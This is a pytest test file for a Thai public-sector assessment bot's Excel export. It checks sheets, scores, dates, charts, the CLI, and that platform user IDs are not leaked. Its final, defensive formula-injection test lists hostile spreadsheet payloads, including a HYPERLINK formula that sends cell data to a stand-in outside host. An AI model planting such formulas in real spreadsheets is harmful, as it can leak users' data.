"""The Excel export: the workbook is opened with openpyxl and checked against the scoring functions."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from bot.cli import main
from bot.export import SHEETS, STATUS_CHOICES, build_workbook, export_workbook
from conversations.reporting import AgencyRound, Respondent, RoundReport
from criteria import default_bank, shown
from criteria.scoring import aggregate, applicable_questions, ranked_actions, score
from storage import repository as repo
from storage.database import Database

BANK = default_bank()
GENERATED = datetime(2026, 11, 24, 3, 0, tzinfo=UTC)  # 10:00 on 24 Nov 2569 in Bangkok
FULL = {q.id: ("500" if q.level == "result" else "3") for q in BANK.questions}
BASIC_ONLY = {q.id: ("150" if q.level == "result" else "2") for q in BANK.questions if q.level in ("basic", "result")}


def _respondent(user_id: int, name: str, answers: dict[str, str], submitted: bool = True) -> Respondent:
    return Respondent(user_id, name, None, answers, submitted)


def _report(agencies: tuple[AgencyRound, ...], previous: dict[int, dict[str, str]] | None = None) -> RoundReport:
    return RoundReport(7, "รอบประเมิน 2570", date(2026, 10, 1), date(2027, 3, 31), "PROV", "สำนักงานจังหวัดน่าน",
                       agencies, previous or {}, "รอบประเมิน 2569" if previous else None)


def _province() -> RoundReport:
    mixed = {**FULL, "Q1.1B": "1", "Q2.1B": "u"}
    return _report((
        AgencyRound(1, "PROV", "สำนักงานจังหวัดน่าน", None, 0, 0, ()),
        AgencyRound(2, "AGRI", "สำนักงานเกษตรจังหวัดน่าน", 1, 1, 4, (
            _respondent(20, "สมชาย", FULL),
            _respondent(21, "สมหญิง", mixed),
            _respondent(22, "ผู้ตอบ 3", BASIC_ONLY, submitted=False),
        )),
        AgencyRound(3, "LAND", "สำนักงานที่ดินจังหวัดน่าน", 1, 1, 1, (_respondent(30, "สมศรี", BASIC_ONLY),)),
    ), previous={2: BASIC_ONLY})


def _open(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def _table(workbook: Workbook, sheet: str, header_row: int = 1) -> list[dict[str, Any]]:
    """The rows of a sheet's table, as dicts by header, up to the first empty row."""
    rows = workbook[sheet].iter_rows(min_row=header_row, values_only=True)
    header = next(rows)
    table = []
    for row in rows:
        if row[0] is None:
            break
        table.append(dict(zip(header, row, strict=True)))
    return table


def _overview_header_row(workbook: Workbook) -> int:
    sheet = workbook["ภาพรวม"]
    return next(r for r in range(1, 20) if sheet.cell(r, 1).value == "รหัส")


def _all_text(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


# A hand-built report ---------------------------------------------------------------------------------


def test_the_workbook_has_the_five_thai_sheets_with_frozen_headers_and_filters() -> None:
    workbook = _open(build_workbook(BANK, _province(), generated_at=GENERATED, timezone="Asia/Bangkok"))
    assert workbook.sheetnames == list(SHEETS) == ["ภาพรวม", "หมวด", "รายข้อ", "ความเห็นต่าง", "แผนพัฒนา"]
    for name in SHEETS:
        sheet = workbook[name]
        assert sheet.freeze_panes is not None and sheet.auto_filter.ref, name
        assert len(name) <= 31
    header = _overview_header_row(workbook)
    assert workbook["ภาพรวม"].freeze_panes == f"C{header + 1}"
    assert workbook["ภาพรวม"].cell(header, 1).font.b


def test_overview_matches_the_scoring_of_each_agencys_aggregate() -> None:
    report = _province()
    workbook = _open(build_workbook(BANK, report, generated_at=GENERATED, timezone="Asia/Bangkok"))
    rows = {row["รหัส"]: row for row in _table(workbook, "ภาพรวม", _overview_header_row(workbook))}
    assert list(rows) == ["PROV", "AGRI", "LAND"]
    for agency in report.agencies[1:]:
        combined = aggregate(BANK, [r.answers for r in agency.respondents])
        result = score(BANK, combined.answers)
        row = rows[agency.code]
        assert row["คะแนนรวม (เต็ม 500)"] == shown.whole(result.overall)
        assert row["ระดับ"] == result.level.name
        assert row["ดัชนีระบบราชการ 4.0"] == pytest.approx(shown.tenth(result.index))
        assert row["ความเห็นต่าง (ข้อ)"] == len(combined.disagreements)
        assert row["สังกัด"] == "PROV"
    agri = rows["AGRI"]
    assert (agri["ผู้เข้าร่วม"], agri["ผู้ตอบ"], agri["ส่งแล้ว"]) == (4, 3, 2)
    # the share of applicable questions answered (as สถานะ shows it); the officer who has not started
    # counts for the questions every first-time respondent is asked
    agri_round = report.agencies[1]
    answered = wanted = 0
    for respondent in agri_round.respondents:
        applicable = applicable_questions(BANK, respondent.answers, respondent.categories)
        wanted += len(applicable)
        answered += sum(1 for q in applicable if q.id in respondent.answers)
    wanted += len(applicable_questions(BANK, {}))
    assert agri["ความครบถ้วน"] == pytest.approx(shown.percent(answered / wanted) / 100)
    assert agri["คะแนนรอบก่อน (รอบประเมิน 2569)"] == shown.whole(score(BANK, BASIC_ONLY).overall)
    assert rows["LAND"]["คะแนนรอบก่อน (รอบประเมิน 2569)"] is None, "no previous round for LAND"
    assert rows["PROV"]["คะแนนรวม (เต็ม 500)"] is None, "the province itself has no respondents"


def test_dates_are_buddhist_era_and_the_generation_time_is_bangkok() -> None:
    workbook = _open(build_workbook(BANK, _province(), generated_at=GENERATED, timezone="Asia/Bangkok"))
    facts = {row[0]: row[1] for row in workbook["ภาพรวม"].iter_rows(min_row=2, max_row=6, values_only=True)}
    assert facts["ช่วงเวลา"] == "1 ต.ค. 2569 – 31 มี.ค. 2570"
    assert facts["จัดทำเมื่อ"] == "24 พ.ย. 2569 เวลา 10:00 น."
    assert facts["รอบการประเมิน"] == "รอบประเมิน 2570"
    assert workbook["แผนพัฒนา"]["J2"].number_format == "d/m/bbbb", "due dates typed in show พ.ศ."


def test_category_sheet_matches_category_scores() -> None:
    report = _province()
    workbook = _open(build_workbook(BANK, report, generated_at=GENERATED, timezone="Asia/Bangkok"))
    rows = {row["รหัส"]: row for row in _table(workbook, "หมวด")}
    assert list(rows) == ["AGRI", "LAND"], "agencies without answers are left out"
    for agency in report.agencies[1:]:
        result = score(BANK, aggregate(BANK, [r.answers for r in agency.respondents]).answers)
        for category in result.categories:
            number, short = category.category.number, category.category.short_name
            assert rows[agency.code][f"หมวด {number} {short}"] == shown.whole(category.score)
            assert rows[agency.code][f"ระดับ หมวด {number}"] == category.level.name
        assert rows[agency.code]["ระดับรวม"] == result.level.name


def test_question_sheet_has_the_aggregated_answer_and_every_respondent_by_name() -> None:
    report = _province()
    workbook = _open(build_workbook(BANK, report, generated_at=GENERATED, timezone="Asia/Bangkok"))
    rows = _table(workbook, "รายข้อ")
    agri = report.agencies[1]
    combined = aggregate(BANK, [r.answers for r in agri.respondents])
    mine = {row["รหัสคำถาม"]: row for row in rows if row["รหัสหน่วยงาน"] == "AGRI"}
    assert set(mine) == set(combined.answers)
    for question_id, code in combined.answers.items():
        question = BANK.question(question_id)
        assert question is not None
        assert mine[question_id]["คำตอบของหน่วยงาน"] == BANK.scale_for(question).option(code).label
        assert mine[question_id]["จำนวนผู้ตอบ"] == combined.respondents[question_id]
        assert mine[question_id]["คำถาม"] == question.text
        assert mine[question_id]["หมวด"] == BANK.item_of(question_id).category_number
    q = mine["Q1.1B"]
    assert q["ข้อ"] == "1.1" and q["ระดับ"] == "พื้นฐาน"
    assert q["คำตอบรายบุคคล"] == "สมชาย: ครบทั่วทั้งองค์การ | สมหญิง: เริ่มทำบางส่วน | ผู้ตอบ 3: มีระบบ ยังไม่ทั่วถึง"
    assert q["ความเห็นต่าง (ขั้น)"] == 2
    assert "สมหญิง: ไม่แน่ใจ" in mine["Q2.1B"]["คำตอบรายบุคคล"]
    assert len(rows) == len(combined.answers) + len(BASIC_ONLY)


def test_disagreements_sheet_lists_what_aggregate_flags() -> None:
    report = _province()
    workbook = _open(build_workbook(BANK, report, generated_at=GENERATED, timezone="Asia/Bangkok"))
    rows = _table(workbook, "ความเห็นต่าง")
    expected = [
        (agency.code, d.question.id, d.spread)
        for agency in report.agencies if agency.respondents
        for d in aggregate(BANK, [r.answers for r in agency.respondents]).disagreements
    ]
    assert expected, "the fixture has disagreements"
    assert [(r["รหัสหน่วยงาน"], r["รหัสคำถาม"], r["ห่างกัน (ขั้น)"]) for r in rows] == expected
    assert all(" | " in r["คำตอบรายบุคคล"] for r in rows)


def test_improvement_plan_lists_every_ranked_action_with_empty_columns_and_a_status_dropdown() -> None:
    report = _province()
    workbook = _open(build_workbook(BANK, report, generated_at=GENERATED, timezone="Asia/Bangkok"))
    rows = _table(workbook, "แผนพัฒนา")
    for agency in report.agencies[1:]:
        result = score(BANK, aggregate(BANK, [r.answers for r in agency.respondents]).answers)
        actions = ranked_actions(BANK, result)
        mine = [r for r in rows if r["รหัสหน่วยงาน"] == agency.code]
        assert [r["สิ่งที่ควรทำ"] for r in mine] == [a.text for a in actions]
        assert [r["ลำดับความสำคัญ"] for r in mine] == [a.priority for a in actions]
        assert [r["ข้อ"] for r in mine] == [f"{a.item.id} {a.item.title}" for a in actions]
        assert [r["หมวด"] for r in mine] == [f"{a.category.number} {a.category.short_name}" for a in actions]
        assert [r["คะแนนข้อปัจจุบัน"] for r in mine] == [shown.whole(a.item_score) for a in actions]
    assert all(r["ผู้รับผิดชอบ"] is None and r["กำหนดเสร็จ"] is None and r["สถานะ"] is None for r in rows)
    (validation,) = workbook["แผนพัฒนา"].data_validations.dataValidation
    assert validation.type == "list"
    assert validation.formula1 == '"' + ",".join(STATUS_CHOICES) + '"'
    assert str(validation.sqref) == f"K2:K{len(rows) + 1}"


def test_the_overview_chart_shows_every_agency_when_few() -> None:
    workbook = _open(build_workbook(BANK, _province(), generated_at=GENERATED, timezone="Asia/Bangkok"))
    (chart,) = workbook["ภาพรวม"]._charts
    assert chart.tagname == "barChart"
    header = _overview_header_row(workbook)
    (series,) = chart.series
    assert series.val.numRef.f == f"'ภาพรวม'!$H${header + 1}:$H${header + 3}", "the overall score of every agency"
    assert series.cat.numRef.f == f"'ภาพรวม'!$B${header + 1}:$B${header + 3}", "named by agency"


def test_many_agencies_chart_the_lowest_scores_from_a_table_beneath() -> None:
    agencies = [AgencyRound(1, "NATION", "ประเทศ", None, 0, 0, ())]
    for n in range(2, 62):
        answers = {q.id: str(n % 4) for q in BANK.questions if q.level == "basic"}
        agencies.append(AgencyRound(n, f"AG{n:03d}", f"หน่วยงาน {n}", 1, 1, 1, (_respondent(n * 10, "ก", answers),)))
    workbook = _open(build_workbook(BANK, _report(tuple(agencies)), generated_at=GENERATED, timezone="Asia/Bangkok"))
    sheet = workbook["ภาพรวม"]
    (chart,) = sheet._charts
    numbers = chart.series[0].val.numRef.f
    first, last = (int(part.split("$")[-1]) for part in numbers.split("!")[1].split(":"))
    assert last - first + 1 == 30, "the 30 lowest"
    assert sheet.cell(first - 1, 3).value == "คะแนนรวม"
    values = [sheet.cell(r, 3).value for r in range(first, last + 1)]
    assert values == sorted(values) and values[0] == 0
    levels = {row[0]: row[1] for row in sheet.iter_rows(min_row=last + 2, values_only=True) if row[0]}
    assert sum(v for k, v in levels.items() if k != "ระดับ") == 60


# From the database ------------------------------------------------------------------------------------


async def _seed(db: Database, now: datetime) -> dict[str, Any]:
    """A province with two agencies and a sub-unit; LINE-style user ids that must never be exported."""
    ids: dict[str, Any] = {"platform": []}
    async with db.transaction() as conn:
        ids["prov"] = await repo.add_agency(conn, "PROV-NAN", "สำนักงานจังหวัดน่าน", None, now)
        agri = await repo.add_agency(conn, "NAN-AGRI", "สำนักงานเกษตรจังหวัดน่าน", ids["prov"], now)
        health = await repo.add_agency(conn, "NAN-HEALTH", "สำนักงานสาธารณสุขจังหวัดน่าน", ids["prov"], now)
        await repo.add_agency(conn, "NAN-HOSP", "โรงพยาบาลน่าน", health, now)
        ids["round"] = await repo.open_round(conn, "รอบประเมิน 2570", ids["prov"], date(2026, 11, 1),
                                             date(2027, 3, 31), now)
        people = [(agri, "สมชาย", FULL, True), (agri, None, BASIC_ONLY, False), (health, "สมศรี", BASIC_ONLY, True)]
        for n, (agency, name, given, done) in enumerate(people):
            platform_id = f"U{n}f0e1d2c3b4a59687{n}abcdef0123456789"
            ids["platform"].append(platform_id)
            user = await repo.create_user(conn, "line", platform_id, name, now, agency_id=agency)
            assessment = await repo.assessment_for(conn, agency, ids["round"], BANK.id, BANK.version, now)
            for question, code in given.items():
                await repo.record_answer(conn, assessment, user.id, question, code, now)
            await repo.save_session(conn, user.id, repo.SessionRow(assessment, "done", None, {}, 1),
                                    expected_version=None, now=now)
            if done:
                await repo.submit(conn, assessment, user.id, now)
    return ids


async def test_export_from_the_database_matches_scoring_and_leaks_no_platform_id(database: Database) -> None:
    ids = await _seed(database, GENERATED)
    exported = await export_workbook(database, BANK, ids["prov"], None, GENERATED)
    assert exported is not None
    filename, data = exported
    assert filename == f"pmqa-PROV-NAN-round-{ids['round']}-2569-11-24.xlsx"
    workbook = _open(data)
    rows = {row["รหัส"]: row for row in _table(workbook, "ภาพรวม", _overview_header_row(workbook))}
    assert list(rows) == ["PROV-NAN", "NAN-AGRI", "NAN-HEALTH", "NAN-HOSP"]
    agri = score(BANK, aggregate(BANK, [FULL, BASIC_ONLY]).answers)
    assert rows["NAN-AGRI"]["คะแนนรวม (เต็ม 500)"] == shown.whole(agri.overall)
    assert (rows["NAN-AGRI"]["ผู้ตอบ"], rows["NAN-AGRI"]["ส่งแล้ว"]) == (2, 1)
    assert rows["NAN-HEALTH"]["คะแนนรวม (เต็ม 500)"] == shown.whole(score(BANK, BASIC_ONLY).overall)
    assert rows["NAN-HOSP"]["ผู้ตอบ"] == 0
    people = {r["คำตอบรายบุคคล"].split(":")[0] for r in _table(workbook, "รายข้อ")}
    assert people == {"สมชาย", "สมศรี"}, "an officer without a display name is 'ผู้ตอบ N' in the joined cell"
    text = _all_text(data)
    assert "ผู้ตอบ 2:" in text
    for platform_id in ids["platform"]:
        assert platform_id not in text


async def test_export_of_an_unknown_agency_or_round_is_none(database: Database) -> None:
    ids = await _seed(database, GENERATED)
    assert await export_workbook(database, BANK, 999_999, None, GENERATED) is None
    assert await export_workbook(database, BANK, ids["prov"], 999_999, GENERATED) is None


# The command line -------------------------------------------------------------------------------------


def test_cli_export_writes_the_workbook_and_exits_2_on_unknown_org_or_round(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PMQA_DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'export.db'}")
    assert main(["demo-data", "--officers", "2"]) == 0
    capsys.readouterr()
    out = tmp_path / "province.xlsx"
    assert main(["export", "--org", "DEMO-PROV", "-o", str(out)]) == 0
    printed = capsys.readouterr().out
    assert str(out) in printed
    assert "5 agencies (4 with answers), 7 respondents" in printed  # of 8 demo officers, one has not started
    workbook = _open(out.read_bytes())
    assert workbook.sheetnames == list(SHEETS)
    assert len(_table(workbook, "หมวด")) == 4
    assert main(["export", "--org", "DEMO-AGRI"]) == 0, "-o defaults to the suggested name"
    assert list(tmp_path.glob("pmqa-DEMO-AGRI-round-*-25*.xlsx"))
    assert main(["export", "--org", "NOPE", "-o", str(out)]) == 2
    assert main(["export", "--org", "DEMO-PROV", "--round", "99", "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert "no agency with code 'NOPE'" in err
    assert "DEMO-PROV has no round 99" in err


# Formula injection (issue 12, defect 2) --------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x/?"&B3,"x")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_text_a_person_typed_is_never_a_formula_and_shows_as_written() -> None:
    respondents = tuple(_respondent(40 + i, name, FULL) for i, name in enumerate(HOSTILE))
    report = RoundReport(8, HOSTILE[0], date(2026, 10, 1), date(2027, 3, 31), "=EVIL", "=1+1 agency",
                         (AgencyRound(4, "=CODE", '=HYPERLINK("http://x","y")', None, 0, 1, respondents),), {}, None)
    data = build_workbook(BANK, report, generated_at=GENERATED, timezone="Asia/Bangkok")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert "<f>" not in archive.read(name).decode("utf-8"), name
    workbook = _open(data)
    shown = set()
    for name in SHEETS:
        for row in workbook[name].iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    shown.add(cell.value)
    assert HOSTILE[0] in shown and '=HYPERLINK("http://x","y")' in shown
    assert any("=1+1 agency" in text for text in shown)
    text = "\n".join(shown)
    for name in HOSTILE[1:]:
        assert name.strip() in text
